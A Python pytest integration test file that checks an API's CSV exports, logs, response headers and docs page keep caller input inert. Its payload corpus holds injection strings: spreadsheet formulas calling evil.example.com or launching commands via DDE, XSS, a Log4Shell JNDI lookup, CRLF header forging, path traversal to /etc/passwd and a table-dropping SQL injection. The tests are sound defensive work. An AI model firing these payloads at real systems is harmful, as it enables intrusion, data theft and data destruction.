"""What callers send comes back as text: in no header, no log line, no cell and no page as anything
else.

Every text field of every request gets its share of the corpus; then whatever can be listed is read
as CSV. PDFs have tests of their own.
"""

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from aws_lambda_powertools import Logger, Metrics

from api.app import create_app
from api.endpoint import CSV, Endpoint
from api.observing import PowertoolsLog, RequestLine
from api.routes import ENDPOINTS
from api.routes.lists import as_csv
from api.schemas.base import Schema
from api.serving import Server
from integration.api.client import ADMIN, World
from integration.api.generated import WITH_BODY, Place, body_of, caller_of, seen_tag, send, typed
from integration.api.test_isolation import Stage

FORMULAS = (
    '=HYPERLINK("https://evil.example.com?"&A1)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",  # noqa: RUF001  # full width, which some spreadsheets read as the sign
    "＋1+1",  # noqa: RUF001
    "－1+1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    "=1+1\r\n=2+2",
    '";=1+1;"',
    "+14155550100,=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<!--#exec cmd=id-->",
)
LINES = (
    "a\r\nSet-Cookie: a=b",
    "a\r\n\r\n<html>",
    "a\nlevel=ERROR forged",
    'a","level":"ERROR","forged":"',
    "a\u2028b\u2029c\x85d",
    "%0d%0aSet-Cookie: a=b",
    "a\x00b",
    "a\x1b[2Jb",
    "\u202egnp.exe",
    "${jndi:ldap://evil.example.com/a}",
)
OTHERS = ("../../etc/passwd", "'; DROP TABLE tenants;--", "ACME#x", "a" * 200, "😀" * 50)
CORPUS = (*FORMULAS, *MARKUP, *LINES, *OTHERS)

PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
RUNS = re.compile(r"[\s\ufeff\u200b]*[=+\-@＝＋－＠]")  # noqa: RUF001
IN_HEADERS = re.compile(r"[\x20-\x7e]*")

WITH_CSV = [endpoint for endpoint in ENDPOINTS if endpoint.csv_rows is not None]
TEXTUAL = [endpoint for endpoint in WITH_BODY if typed(endpoint, "string")]
SHARES = 4


class Both:
    """The log of a deployment, as text; and its lines, which the client looks at."""

    def __init__(self, world: World) -> None:
        self.text = io.StringIO()
        logger = Logger(service="talktime", stream=self.text, logger_handler=None)
        for handler in logger.handlers:
            handler.setStream(self.text)  # type: ignore[attr-defined]
        self._written = PowertoolsLog(logger, Metrics(namespace="Talktime", service="api"))
        self._kept = world.log
        world.app = create_app(Server(world.talktime, self))

    def write(self, line: RequestLine) -> None:
        self._kept.write(line)
        self._written.write(line)


def assert_inert(world: World, headers: Any) -> None:
    for name, value in headers.items():
        assert IN_HEADERS.fullmatch(f"{name}: {value}"), (name, value)


@pytest.fixture(scope="module")
def filled() -> tuple[Stage, Both]:
    """A stage where every field was given something."""
    stage = Stage()
    log = Both(stage.world)
    for endpoint in TEXTUAL:
        if endpoint.method == "DELETE":
            continue
        body = body_of(endpoint, stage)
        for place, payload in _tried(endpoint):
            headers = {**seen_tag(stage, endpoint), "Origin": payload, "User-Agent": payload}
            found = send(stage, endpoint, place.put(body, payload), headers=headers)
            assert found.status < 500, (endpoint.name, place.text, payload)
            assert_inert(stage.world, found.headers)
            json.loads(found.text or "{}")
            assert found.headers["x-content-type-options"] == "nosniff"
    return stage, log


def _tried(endpoint: Endpoint) -> Iterator[tuple[Place, str]]:
    """The corpus over the fields, each its share: a few kinds of text are what all of them hold."""
    free = (p for p in typed(endpoint, "string") if not {"enum", "const"} & set(p.node))
    for index, place in enumerate(free):
        for payload in CORPUS[index % SHARES :: SHARES]:
            yield place, payload


def test_every_line_of_the_log_is_one_and_says_nothing_that_was_sent(
    filled: tuple[Stage, Both],
) -> None:
    stage, log = filled
    lines = log.text.getvalue().splitlines()
    assert len(lines) > len(CORPUS)
    fields = {"level", "location", "message", "timestamp", "service"}
    fields |= {*RequestLine.__slots__, "xray_trace_id"}
    for line in lines:
        assert set(json.loads(line)) <= fields
        assert not any(payload in line for payload in ("alert(", "forged", "cmd|", "evil"))
    assert "forged" not in repr(stage.world.log.lines)


@pytest.mark.parametrize("endpoint", WITH_CSV, ids=lambda endpoint: endpoint.name)
def test_no_cell_of_a_list_runs(filled: tuple[Stage, Both], endpoint: Endpoint) -> None:
    stage, _ = filled
    found = send(stage, endpoint, None, headers={"Accept": CSV})
    assert found.status == 200
    assert found.headers["content-type"] == "text/csv; charset=utf-8"
    assert_inert(stage.world, found.headers)
    head, *rows = csv.reader(io.StringIO(found.text, newline=""))
    for row in rows:
        assert len(row) == len(head)
        for cell in row:
            assert not RUNS.match(cell) or PLAIN_NUMBER.fullmatch(cell), cell


class Cell(Schema):
    text: str
    parts: list[str]


@pytest.mark.parametrize("payload", CORPUS, ids=ascii)
def test_no_cell_runs_whatever_it_holds(payload: str) -> None:
    written = as_csv(Cell, [Cell(text=payload, parts=[payload])])
    (_, (text, parts)) = csv.reader(io.StringIO(written, newline=""))
    assert text in (payload, f"'{payload}")
    assert not RUNS.match(text)
    assert json.loads(parts) == [payload]


@pytest.mark.parametrize("number", ["1", "-1", "+14155550100", "-0.50", "0"])
def test_a_plain_number_stays_one(number: str) -> None:
    (_, (text, _)) = csv.reader(io.StringIO(as_csv(Cell, [Cell(text=number, parts=[])])))
    assert text == number


@pytest.mark.parametrize("endpoint", ENDPOINTS, ids=lambda endpoint: endpoint.name)
def test_what_is_asked_for_is_answered_in_no_header_as_it_was_sent(
    filled: tuple[Stage, Both], endpoint: Endpoint
) -> None:
    stage, _ = filled
    token, named = caller_of(endpoint)
    for payload in LINES[:4]:
        headers = {**named, "Accept": payload, "If-None-Match": payload, "Origin": payload}
        path = stage.path_of(endpoint)
        for query in ({"limit": payload}, {"limit": "1", "cursor": payload}, {payload: "1"}):
            found = stage.world.call(endpoint.method, path, token=token, headers=headers, **query)
            assert_inert(stage.world, found.headers)
            assert "access-control-allow-origin" not in found.headers


def test_the_page_of_the_docs_lets_nothing_in(filled: tuple[Stage, Both]) -> None:
    stage, _ = filled
    found = stage.world.call("GET", "/docs", token=ADMIN, q="<script>alert(1)</script>")
    assert "alert(1)" not in found.text
